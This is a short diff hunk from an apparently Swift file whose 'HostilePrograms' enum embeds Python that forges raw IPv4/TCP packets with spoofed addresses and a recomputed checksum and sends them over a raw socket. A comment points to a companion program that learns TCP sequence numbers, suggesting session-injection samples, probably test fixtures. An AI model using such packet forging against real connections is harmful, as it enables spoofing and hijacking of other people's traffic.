@@ -26,6 +26,7 @@ enum HostilePrograms {
             tcp = tcp[:16] + struct.pack("!H", sum_) + tcp[18:]
             ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ident, 0, 64, 6, 0, source, destination)
             raw.sendto(ip + tcp, (dst, 0))
+
         """
 
     /// Accepts one connection on 7005, learns both sides' next sequence
